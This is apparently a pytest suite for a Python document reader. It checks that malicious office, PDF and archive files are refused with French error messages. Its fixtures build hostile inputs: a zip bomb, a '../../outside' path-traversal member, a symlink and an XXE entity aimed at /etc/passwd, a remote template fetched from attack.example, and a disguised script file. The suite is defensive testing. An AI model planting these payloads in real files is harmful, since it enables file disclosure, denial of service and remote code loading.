"""Files made to harm (lines 30 to 37 of the attacks): refused in clear French, within bounds."""

import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from tests.reading import builders

from maillage.reading.errors import UnreadableDocument
from maillage.reading.formats import open_document
from maillage.reading.formats.archive import MAX_MEMBERS

_DOCUMENT = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>'


def _zip(path: Path, members: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return path


def _bomb(path: Path) -> Path:
    return _zip(path, {"word/document.xml": b" " * 30_000_000})


def _many_members(path: Path) -> Path:
    return _zip(path, {f"a/{n}": b"" for n in range(MAX_MEMBERS + 1)})


def _climbing(path: Path) -> Path:
    return _zip(path, {"word/document.xml": _DOCUMENT.encode(), "../../outside": b"x"})


def _twins(path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("word/document.xml", _DOCUMENT)
        with pytest.warns(UserWarning, match="Duplicate"):
            archive.writestr("word/document.xml", _DOCUMENT)
    return path


def _link(path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        member = zipfile.ZipInfo("word/document.xml")
        member.external_attr = 0o120777 << 16
        archive.writestr(member, "/etc/passwd")
    return path


def _entities(path: Path) -> Path:
    declared = '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
    return _zip(path, {"word/document.xml": (declared + _DOCUMENT).encode()})


def _entities_in_utf_16(path: Path) -> Path:
    return _zip(path, {"word/document.xml": f'<!DOCTYPE x [<!ENTITY a "b">]>{_DOCUMENT}'.encode("utf-16")})


def _remote_template(path: Path) -> Path:
    relation = (
        '<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" '
        'Target="http://attack.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    return _zip(
        path,
        {
            "word/document.xml": _DOCUMENT.encode(),
            "word/_rels/settings.xml.rels": relation.encode(),
        },
    )


@pytest.mark.parametrize(
    ("make", "message"),
    [
        (_bomb, "démesuré"),
        (_many_members, "éléments"),
        (_climbing, "sort du fichier"),
        (_twins, "même nom"),
        (_link, "sort du fichier"),
        (_entities, "entité XML"),
        (_entities_in_utf_16, "entité XML"),
        (_remote_template, "extérieur"),
    ],
)
def test_hostile_archive_is_refused(tmp_path: Path, make: Callable[[Path], Path], message: str) -> None:
    with pytest.raises(UnreadableDocument, match=message) as refused:
        open_document(make(tmp_path / "a.docx"))

    assert refused.value.where == "a.docx"
    assert refused.value.remedy.endswith(".")


def _repeated_cell(count: int) -> str:
    repeated = f'table:number-columns-repeated="{count}"'
    return f"<table:table-cell {repeated}><text:p>x</text:p></table:table-cell>"


def _write_ods_row(folder: Path, row: str) -> Path:
    body = f"<office:spreadsheet><table:table>{row}</table:table></office:spreadsheet>"
    return builders.write_odf(folder / "a.ods", body, kind="spreadsheet")


def test_ods_repeating_a_cell_a_billion_times_is_refused(tmp_path: Path) -> None:
    row = f"<table:table-row>{_repeated_cell(1_000_000_000)}</table:table-row>"
    path = _write_ods_row(tmp_path, row)

    with pytest.raises(UnreadableDocument, match="répétée"):
        open_document(path)


def test_ods_repeating_rows_within_the_rules_is_bounded(tmp_path: Path) -> None:
    cell = _repeated_cell(16_384)
    row = f'<table:table-row table:number-rows-repeated="1048576">{cell}{cell}</table:table-row>'
    path = _write_ods_row(tmp_path, row)

    (table,) = open_document(path).blocks

    assert len(table.rows) == 1000
    assert len(table.rows[0]) == 400


def test_xlsx_reaching_the_last_cell_is_refused(tmp_path: Path) -> None:
    path = builders.write_xlsx(tmp_path / "a.xlsx", {"Plan": [["a"]]})
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    name = "xl/worksheets/sheet1.xml"
    members[name] = members[name].replace(
        b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    )

    with pytest.raises(UnreadableDocument, match="millions de cellules"):
        open_document(_zip(tmp_path / "b.xlsx", members))


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("a.pdf", b"<!doctype html><script>alert(1)</script>", "annonce l’extension"),
        ("a.txt", b"<html><body>x</body></html>", "annonce l’extension"),
        ("a.docx", b"GIF89a/*...*/=0;", "annonce l’extension"),
        ("a.csv", b"%PDF-1.4 broken", "abîmé"),
        ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"x" * 600, "ancien fichier Office"),
        ("a.txt", b"abc\x00def", "octets nuls"),
        ("a.txt", b"", "vide"),
        ("a.txt", b"x" * 300_000, "200 000"),
        ("a.docx", b"PK\x03\x04" + b"\x00" * 40, "abîmé"),
        ("a.xlsx", b"PK\x05\x06" + b"\x00" * 18, "ni un DOCX"),
    ],
)
def test_file_that_is_not_what_it_says_is_refused(
    tmp_path: Path, name: str, content: bytes, message: str
) -> None:
    path = tmp_path / name
    path.write_bytes(content)

    with pytest.raises(UnreadableDocument, match=message):
        open_document(path)


def test_missing_file_is_refused(tmp_path: Path) -> None:
    with pytest.raises(UnreadableDocument, match="introuvable"):
        open_document(tmp_path / "absent.pdf")


@pytest.mark.parametrize("name", ["a.docx", "a.odt", "a.xlsx", "a.ods", "a.pdf"])
def test_cut_file_is_refused_or_read_but_never_breaks(tmp_path: Path, name: str) -> None:
    writers: dict[str, Callable[[], Path]] = {
        "a.docx": lambda: builders.write_docx(tmp_path / name, [("p", "Un texte.")]),
        "a.odt": lambda: builders.write_odt(tmp_path / name, [("p", "Un texte.")]),
        "a.xlsx": lambda: builders.write_xlsx(tmp_path / name, {"F": [["a", "b"]]}),
        "a.ods": lambda: builders.write_ods(tmp_path / name, {"F": [["a", "b"]]}),
        "a.pdf": lambda: builders.write_pdf(tmp_path / name, [[("p", "Un texte.")]]),
    }
    whole = writers[name]().read_bytes()
    for length in range(4, len(whole), max(1, len(whole) // 40)):
        (tmp_path / name).write_bytes(whole[:length])
        try:
            open_document(tmp_path / name)
        except UnreadableDocument:
            continue


def test_nested_archive_is_refused(tmp_path: Path) -> None:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as archive:
        archive.writestr("word/document.xml", _DOCUMENT)

    with pytest.raises(UnreadableDocument, match="ni un DOCX"):
        open_document(_zip(tmp_path / "a.docx", {"inner.docx": inner.getvalue()}))


def test_attack_30_a_member_whose_bytes_were_changed_is_refused(tmp_path: Path) -> None:
    path = builders.write_odt(tmp_path / "essai.odt", [("p", "Convention")])
    raw = path.read_bytes()
    at = raw.index(b"mimetype") + len(b"mimetype") + 4
    path.write_bytes(raw[:at] + bytes([raw[at] ^ 1]) + raw[at + 1 :])

    with pytest.raises(UnreadableDocument, match="abîmé"):
        open_document(path)


def test_attack_35_a_broken_page_is_said_and_the_others_are_read(tmp_path: Path) -> None:
    pages = [[("p", "Première page du contrat de ville")], [("p", "Deuxième page du contrat de ville")]]
    path = builders.write_pdf(tmp_path / "essai.pdf", pages)
    raw = path.read_bytes()
    path.write_bytes(raw.replace(b"/Kids [4 0 R 6 0 R]", b"/Kids [99 0 R 6 0 R]"))

    document = open_document(path)

    assert "Deuxième page du contrat de ville" in [block.text for block in document.blocks]
    assert [issue.code for issue in document.issues] == ["broken_page"]
